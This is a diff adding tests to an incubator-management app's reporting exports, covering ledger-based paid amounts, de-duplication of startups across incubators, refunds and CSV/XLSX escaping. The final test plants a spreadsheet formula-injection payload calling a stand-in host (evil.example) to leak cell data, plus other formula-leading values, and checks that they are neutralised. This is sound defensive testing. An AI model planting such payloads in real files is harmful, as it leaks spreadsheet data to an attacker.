@@ -282,3 +282,119 @@ def test_a_lost_job_is_not_waited_for(session, rw):
     export.created_at = utcnow() - timedelta(hours=1)
     session.flush()
     assert find_pending(session, rw.a, "k" * 64) is None
+
+
+def test_the_amount_paid_is_the_money_the_ledger_received_everywhere(client, rw, sign_in, session):
+    """The fixture's bookings ask 300,000 in prices; the ledger holds 110,000 net of refunds for the lab
+    (100,000 paid less 40,000 refunded, 150,000 paid less 100,000 refunded) and an application fee."""
+    from incubator.accounts.services import create_api_token
+
+    net = sum(row["amount"] for row in rw.ledger if row["booking"] is not None)
+    assert net == 110_000
+    sign_in(rw.manager_a)
+    page = client.get(f"/o/inc-a/reports?{YEAR_ARGS}&cohort={rw.a1.id}").get_data(as_text=True)
+    total_row = re.search(r'data-lab="total">(.*?)</tr>', page, re.S).group(1)
+    assert "₫110,000" in total_row
+    machine_row = re.search(r'data-lab="machine">(.*?)</tr>', page, re.S).group(1)
+    assert "₫110,000" in machine_row and "₫100,000" not in machine_row  # not the booking's price
+
+    value, _ = create_api_token(session, rw.manager_a, "t")
+    session.flush()
+    body = _report_json(client, rw, {"Authorization": f"Bearer {value}"}, rw.a1)
+    assert {line["kind"]: line["paid_amount"] for line in body["lab"]} == {"machine": 110_000, "room": 0}
+
+    xlsx = zipfile.ZipFile(io.BytesIO(client.get(
+        f"/o/inc-a/reports/download.xlsx?{YEAR_ARGS}&cohort={rw.a1.id}&lang=en").get_data()))
+    lab = xlsx.read("xl/worksheets/sheet5.xml").decode()
+    assert "Amount paid" in lab
+    assert re.search(r'<c r="F2"[^>]*><v>110000</v>', lab)  # machine: amount paid
+    assert re.search(r'<c r="F4"[^>]*><v>110000</v>', lab)  # the total
+    # Each listed booking with what the ledger holds for it: the partly refunded one kept 60,000.
+    assert re.search(r'<c r="I\d+"[^>]*><v>60000</v>', lab)
+
+    pdf = client.get(f"/o/inc-a/reports/download.pdf?{YEAR_ARGS}&cohort={rw.a1.id}&lang=en").get_data()
+    text = "\n".join(p.extract_text() for p in pypdf.PdfReader(io.BytesIO(pdf)).pages)
+    assert "110,000" in text
+
+
+def test_a_startup_in_two_incubators_is_one_row_with_its_sources(client, rw, sign_in, session):
+    """The province's report lists Alpha (R1 at A and at B) once, says whose check-in each figure is,
+    and its rows add up to the headline, on the page and in the CSV, XLSX and PDF."""
+    from incubator.reporting.queries import build_report
+    from incubator.reporting.scope import Period
+
+    report = build_report(session, rw.dost, [rw.a1, rw.b1], Period("year", date(YEAR, 1, 1), date(YEAR + 1, 1, 1)),
+                          date(2026, 6, 1))
+    alpha = next(line for line in report.startups if line.name == "Alpha")
+    assert {org for org, _n in alpha.source_counts} == {"Incubator A", "Incubator B"}  # the fixture mixes both
+    sign_in(rw.funder_dost)
+    page = client.get(f"/o/dost/reports?{YEAR_ARGS}").get_data(as_text=True)
+    assert page.count('data-startup="Alpha"') == 1 and 'data-startup="Alpha (B)"' not in page
+    row = re.search(r'data-startup="Alpha">(.*?)</tr>', page, re.S).group(1)
+    source = re.search(r"<td class=\"small\" data-source>(.*?)</td>", row, re.S).group(1)
+    for org, months in alpha.source_counts:
+        assert f"{org}: {months} of {len(alpha.sources)} months" in source
+    assert "Figures from" in page and "is listed once" in page
+
+    response = client.get(f"/o/dost/reports/download.csv?{YEAR_ARGS}&lang=en")
+    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
+    assert len(rows) == 4 * len(MONTHS)  # four companies, twelve months each
+    assert not [r for r in rows if r["Startup"] == "Alpha (B)"]
+    alpha_rows = {r["Month"]: r for r in rows if r["Startup"] == "Alpha"}
+    assert {m: r["Figures from"] for m, r in alpha_rows.items() if r["Figures from"]} == alpha.sources
+    for name in ("Revenue", "Grants raised", "Jobs created"):
+        key = {"Revenue": "revenue", "Grants raised": "funding_grant", "Jobs created": "jobs_created"}[name]
+        assert sum(int(r[name]) for r in rows if r[name]) == report.headline[key], name
+
+    xlsx = zipfile.ZipFile(io.BytesIO(client.get(f"/o/dost/reports/download.xlsx?{YEAR_ARGS}&lang=en").get_data()))
+    startups = xlsx.read("xl/worksheets/sheet2.xml").decode()
+    assert "Figures from" in startups and ">Alpha<" in startups and ">Alpha (B)<" not in startups
+    assert f"Incubator A: {dict(alpha.source_counts)['Incubator A']} of {len(alpha.sources)} months" in startups
+
+    pdf = client.get(f"/o/dost/reports/download.pdf?{YEAR_ARGS}&lang=en").get_data()
+    text = " ".join(p.extract_text() for p in pypdf.PdfReader(io.BytesIO(pdf)).pages)
+    assert "Alpha (B)" not in text and "Figures from" in text
+
+
+def test_a_refund_makes_a_new_file(client, rw, sign_in, session):
+    """The ledger is part of the data behind a file: a refund after a download is in the next one."""
+    from incubator.payments.models import LedgerEntry, LedgerKind
+
+    sign_in(rw.manager_a)
+    url = f"/o/inc-a/reports/download.xlsx?{YEAR_ARGS}&cohort={rw.a1.id}&lang=en"
+    first = zipfile.ZipFile(io.BytesIO(client.get(url).get_data())).read("xl/worksheets/sheet5.xml").decode()
+    assert re.search(r'<c r="F2"[^>]*><v>110000</v>', first) and _exports(session) == 1
+    session.add(LedgerEntry(org_id=rw.a.id, kind=LedgerKind.REFUND, startup_id=rw.startups["s1"].id,
+                            booking_id=rw.bookings[1]["id"], amount=-10_000, currency="VND"))
+    session.flush()
+    again = zipfile.ZipFile(io.BytesIO(client.get(url).get_data())).read("xl/worksheets/sheet5.xml").decode()
+    assert _exports(session) == 2 and re.search(r'<c r="F2"[^>]*><v>100000</v>', again)
+
+
+def test_text_that_a_spreadsheet_would_run_is_neither_a_formula_in_the_csv_nor_in_the_xlsx(client, rw, sign_in,
+                                                                                         session):
+    attack = '=HYPERLINK("http://evil.example/?d="&A1,"Report")'
+    rw.startups["s3"].name = attack
+    rw.startups["s2"].name = "@SUM(A1:A9)"
+    rw.startups["s2"].registration_number = "-2+3"
+    rw.a1.name = "+A1 cohort"
+    session.flush()
+    sign_in(rw.manager_a)
+    response = client.get(f"/o/inc-a/reports/download.csv?{YEAR_ARGS}&cohort={rw.a1.id}&lang=en")
+    data = response.get_data()
+    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 with a BOM, as before
+    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
+    names = {r["Startup"] for r in rows}
+    assert "'" + attack in names and "'@SUM(A1:A9)" in names and attack not in names
+    assert {r["Registration number"] for r in rows if r["Startup"] == "'@SUM(A1:A9)"} == {"'-2+3"}
+    assert {r["Cohorts"] for r in rows} == {"'+A1 cohort"}
+    # Figures are numbers, as they were.
+    assert all(r["Revenue"] == "" or r["Revenue"].isdigit() for r in rows)
+
+    book = zipfile.ZipFile(io.BytesIO(client.get(
+        f"/o/inc-a/reports/download.xlsx?{YEAR_ARGS}&cohort={rw.a1.id}&lang=en").get_data()))
+    for name in book.namelist():
+        if name.startswith("xl/worksheets/sheet"):
+            assert "<f>" not in book.read(name).decode(), name  # no formula anywhere
+    startups = book.read("xl/worksheets/sheet2.xml").decode()
+    assert "<t>=HYPERLINK(\"http://evil.example/?d=\"&amp;A1,\"Report\")</t>" in startups  # as text
